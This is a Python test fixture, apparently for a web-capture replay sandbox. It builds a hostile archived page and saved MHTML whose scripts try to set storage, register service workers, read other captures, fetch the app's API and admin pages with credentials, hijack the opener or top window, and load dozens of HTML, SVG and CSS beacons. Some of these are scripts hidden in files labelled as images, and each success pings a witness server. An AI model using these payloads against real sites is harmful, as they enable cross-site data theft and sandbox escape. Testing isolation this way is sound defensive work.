"""A captured page that tries everything: each attempt that reaches something knocks at a witness by its own name."""

from html import escape

from tests.outside.site import Site, answer
from tests.reading import given, saved

CANARY = "the lighthouse keeper knows"
SCRIPT = """
const W = "{witness}", APP = "{app}", OTHER = "{other}";
const tell = (what) => {{ new Image().src = W + what; fetch(W + what, {{ mode: "no-cors" }}).catch(() => 0); }};
const attempt = (what, how) => {{
  try {{ Promise.resolve(how()).then((got) => got && tell(what), () => 0); }} catch (refused) {{ }}
}};
const read = (address, more) => fetch(address, more).then((got) => got.text());
const MINE = {{ credentials: "include" }};
tell("script");
attempt("cookie", () => {{ document.cookie = "mark=1"; return document.cookie.includes("mark=1"); }});
attempt("storage", () => {{ localStorage.setItem("mark", "1"); return localStorage.getItem("mark"); }});
attempt("database", () => new Promise((yes, no) => {{
  const open = indexedDB.open("mark"); open.onsuccess = () => yes(1); open.onerror = no; }}));
attempt("cache", () => caches.open("mark"));
attempt("worker", () => navigator.serviceWorker.register("worker").then(() => 1));
attempt("other-capture", () => read(OTHER).then((words) => words.includes("{canary}")));
attempt("api", () => read(APP + "/api/v1/cases/", MINE).then(() => 1));
attempt("admin", () => read(APP + "/people/", MINE).then(() => 1));
attempt("opener-words", () => window.opener && window.opener.document.body.innerText);
attempt("opener-moved", () => {{ if (window.opener) window.opener.location = W + "opener-moved"; }});
attempt("message", () => {{
  const at = window.opener || window.parent;
  at.postMessage("go()", "*");
  return at !== window; }});
attempt("top-moved", () => {{ if (window.top !== window) window.top.location = W + "top-moved"; }});
attempt("window", () => {{ window.open(W + "window"); }});
attempt("form-sent", () => document.getElementById("form").submit());
"""
PAGE = """<!doctype html><html><head><title>Ferry</title>
<meta http-equiv="refresh" content="1;url={witness}refresh">
<link rel="stylesheet" href="{witness}sheet"><link rel="preload" as="image" href="{witness}preload">
<link rel="prefetch" href="{witness}prefetch"><link rel="icon" href="{witness}icon">
<style>@import "{witness}import"; @import url({witness}import-url); body {{ background: url({witness}background) }}
@font-face {{ font-family: f; src: url({witness}font) }}</style></head>
<body onload="new Image().src='{witness}onload'"><p style="font-family: f">{words}</p>
<script>{script}</script><script src="{witness}script-from-elsewhere"></script>
<img src="{witness}picture"><img src="x" onerror="new Image().src='{witness}onerror'">
<svg onload="new Image().src='{witness}svg-onload'"><image href="{witness}svg-picture"></image>
<script>new Image().src='{witness}svg-script'</script></svg>
<svg><use href="{witness}svg-use#a"></use><image><animate attributeName="href" values="{witness}svg-moved"/></image>
<style>@import "{witness}svg-sheet"; rect {{ fill: url({witness}svg-fill) }}</style><rect/>
<foreignObject><img src="{witness}svg-foreign"></foreignObject></svg>
<iframe src="{witness}frame"></iframe>
<iframe srcdoc="&lt;iframe srcdoc='&amp;lt;img src={witness}srcdoc-deep&amp;gt;'&gt;&lt;/iframe&gt;"></iframe>
<iframe srcdoc="&lt;script&gt;new Image().src='{witness}srcdoc'&lt;/script&gt;"></iframe>
<iframe src="javascript:new Image().src='{witness}frame-script'"></iframe>
<iframe src="data:text/html,&lt;script&gt;new Image().src='{witness}data-frame'&lt;/script&gt;"></iframe>
<object data="{witness}object"></object><embed src="{witness}embed">
<video src="{witness}film" poster="{witness}poster"></video><audio src="{witness}sound"></audio>
<form id="form" action="{witness}form-sent" method="post"><button>go</button></form>
<a id="away" href="{witness}link" ping="{witness}ping">away</a>
<a id="script-link" href="javascript:new Image().src='{witness}script-link'">script</a>
<img src="https://ferry.example/evil.svg"><iframe src="https://ferry.example/evil.svg"></iframe>
<iframe src="https://ferry.example/evil.png"></iframe><script src="https://ferry.example/evil.js"></script>
</body></html>"""


def page(witness: Site, app: str, other: str) -> str:
    """The page as it was captured, `other` the address of another capture's page, as if its ticket had leaked."""
    script = SCRIPT.format(witness=witness.url, app=app, other=other, canary=CANARY)
    return PAGE.format(witness=witness.url, script=script, words="A ferry.")


def parts(witness: Site) -> dict[str, bytes]:
    """What was recorded with it: files that are called something else than they are."""
    go = f"new Image().src='{witness.url}"
    drawing = f"<svg xmlns='http://www.w3.org/2000/svg'><script>{go}svg-file'</script></svg>"
    return {
        "https://ferry.example/evil.svg": answer(drawing.encode(), kind="image/svg+xml"),
        "https://ferry.example/evil.png": answer(f"<script>{go}png-file'</script>".encode(), kind="image/png"),
        "https://ferry.example/evil.js": answer(f"{go}js-file'".encode(), kind="text/javascript"),
    }


def every_kind(witness: Site) -> tuple[str, dict[str, bytes]]:
    """A page of what is hard to show, and what was recorded with it; each with a script that knocks."""
    go = f"<script>new Image().src='{witness.url}"
    within = (
        f"<p>Within a page.{go}within'</script><iframe srcdoc='{escape(f'<p>Within that.{go}deep</script>')}'></iframe>"
    )
    html = (
        f'<p>A ferry.<iframe id=held srcdoc="{escape(within)}"></iframe><iframe id=set src="/set"></iframe>'
        f"<svg width=20 height=20 onload=\"new Image().src='{witness.url}svg'\"><defs>"
        "<rect id=r width=9 height=9 /></defs>"
        f'<use xlink:href="#r" /><use href="{witness.url}use#r" /></svg>'
        f'<img id=map src="/map.svg"><iframe id=mapped src="/map.svg"></iframe><p style="background: url(/map.svg)">x'
    )
    frames = '<frameset cols="1*,1*"><frame src="/left"><frame src="/right"></frameset>'
    drawing = (
        "<svg xmlns='http://www.w3.org/2000/svg' width='30' height='20' "
        f"onload=\"new Image().src='{witness.url}load'\">"
        f"{go}drawing'</script><style>@import '{witness.url}sheet';</style>"
        f"<text y='15'>Drawn.</text><image href='{witness.url}image'/></svg>"
    )
    return html, {
        "https://ferry.example/set": answer(frames.encode()),
        "https://ferry.example/left": answer(f"<p>Left of it.{go}left'</script>".encode()),
        "https://ferry.example/right": answer(f"<p>Right of it.{go}right'</script>".encode()),
        "https://ferry.example/map.svg": answer(drawing.encode(), kind="image/svg+xml"),
    }


def saved_page(witness: Site) -> bytes:
    """The same, as one file that a browser saved; two of its frames hold each other."""
    go = f"<script>new Image().src='{witness.url}"
    html = (
        f"<link rel=stylesheet href='cid:s@x'><div><template shadowmode=open><b>In the shade.{go}shade'</script>"
        f"</b></template></div><p>A saved ferry.{go}saved'</script><img id=boat src='boat.png'>"
        f"<img src='https://mill.example/never.png'><iframe src='cid:a@x'></iframe>"
    )
    frame = "<p>Frame {}.<iframe src='cid:{}@x'></iframe>{}saved-{}'</script>"
    return saved.mhtml(
        saved.page(html),
        saved.part(f"p {{ color: rgb(1, 2, 3); background: url({witness.url}sheet) }}".encode(), "text/css", "cid:s@x"),
        saved.part(given.picture("PNG"), "image/png", "boat.png"),
        saved.page(frame.format("a", "b", go, "a"), "https://mill.example/a", "a@x"),
        saved.page(frame.format("b", "a", go, "b"), "https://mill.example/b", "b@x"),
    )


def reached(witness: Site) -> set[str]:
    """The names of the attempts that reached the witness; what a browser asks of every site is none."""
    return {hit.strip("/") for hit in witness.hits} - {"", "favicon.ico"}
